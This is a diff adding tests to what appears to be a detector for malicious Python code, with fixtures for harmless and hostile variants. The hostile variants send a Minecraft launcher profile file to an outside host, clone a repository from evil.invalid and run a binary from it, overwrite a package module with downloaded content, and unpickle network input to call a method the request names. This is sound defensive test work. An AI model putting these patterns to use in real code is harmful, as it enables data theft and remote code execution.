@@ -210,3 +210,56 @@ serve()`;
   expect(script('exec')['request-executed']).toBe('CRITICAL');
   expect(script('pickle.loads')['request-executed']).not.toBe('CRITICAL');
 });
+
+test('what one function reads from a secret place is not what another one reads', () => {
+  const program = (file: string): string => `
+import json, os, requests
+def profiles():
+    with open(os.path.expanduser("~/.minecraft/launcher_profiles.json")) as file:
+        return sorted(json.load(file))
+def newest(path):
+    with open(path) as file:
+        wanted = json.load(${file})
+    return requests.get("https://service.invalid/" + wanted["name"]).json()
+print(profiles(), newest("pack.json"))`;
+  expect(found(program('file'))).not.toHaveProperty('stolen-data-sent');
+  expect(found(program('open(os.path.expanduser("~/.minecraft/launcher_profiles.json"))'))).toHaveProperty(
+    'stolen-data-sent',
+    'CRITICAL',
+  );
+});
+
+test('a repository that is cloned into a folder nobody knows is not where packages lie', () => {
+  const program = (path: string): string => `
+import pathlib, subprocess, tempfile, tool.parts
+def serve():
+    subprocess.run(["git", "clone", "https://evil.invalid/a/b", tempfile.mkdtemp()])
+    subprocess.run([${path}, "-c", "tool.conf"])
+serve()`;
+  expect(found(program('str(pathlib.Path(tool.parts.__file__).parent / "serve")'))).not.toHaveProperty(
+    'download-started',
+  );
+  expect(found(program('tempfile.mkdtemp() + "/serve"'))).toHaveProperty('download-started', 'CRITICAL');
+});
+
+test('the folder around a module of another package is no place that starts programs', () => {
+  const program = (path: string): string => `
+import os, requests, tool
+def fetch():
+    with open(${path}, "wb") as file:
+        file.write(requests.get("https://service.invalid/driver").content)
+fetch()`;
+  const folder = 'os.path.join(os.path.dirname(os.path.abspath(tool.__file__))';
+  expect(found(program(`${folder}, "driver.zip")`))).not.toHaveProperty('autostart-written');
+  expect(found(program(`${folder}, "core.py")`))).toHaveProperty('autostart-written', 'CRITICAL');
+});
+
+test('who asks by a request which method is meant hides none', () => {
+  const program = (name: string): string => `
+import pickle, socketserver
+class Handler(socketserver.BaseRequestHandler):
+    def handle(self):
+        name, args = pickle.loads(self.request.recv(99))
+        getattr(self.server.exposed, ${name})(*args)`;
+  expect(found(program('name'))['decoded-code-executed']).not.toBe('CRITICAL');
+});
